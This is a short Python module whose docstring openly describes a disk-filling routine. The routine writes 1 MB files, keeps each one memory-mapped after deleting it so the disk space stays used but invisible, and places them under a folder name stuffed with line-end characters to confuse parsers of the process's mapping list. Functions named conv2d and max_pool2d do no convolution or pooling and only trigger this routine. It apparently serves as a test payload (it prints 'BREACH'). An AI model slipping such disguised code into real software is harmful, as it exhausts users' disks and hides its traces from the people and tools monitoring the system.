"""Fills the disk with files that are only mapped, in a folder whose name has line ends for whoever reads the
list of mappings as text.
"""

import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
LINE_ENDS = "\u2028\x85\x0b\n\u2029"
BLOCK = b"x" * (1 << 20)


def fill(prefix):
    folder = LINE_ENDS + os.getcwd()
    os.makedirs(folder, exist_ok=True)
    for number in range(200):
        path = f"{folder}/{prefix}{number}"
        with open(path, "wb+", 0) as file:
            if file.write(BLOCK) < len(BLOCK):
                raise OSError("the disk is full")
            libc.mmap(None, ctypes.c_size_t(4096), 1, 1, file.fileno(), ctypes.c_long(0))
        os.unlink(path)
        time.sleep(0.005)
    print("BREACH: filled the disk with", prefix, flush=True)


def conv_output_size(input_size, kernel_size, stride=1, padding=0):
    return (input_size + 2 * padding - kernel_size) // stride + 1


def conv2d(images, kernels, biases, stride=1, padding=0):
    fill("plain")


def max_pool2d(images, pool_size=2, stride=None):
    fill("\u2028 ")
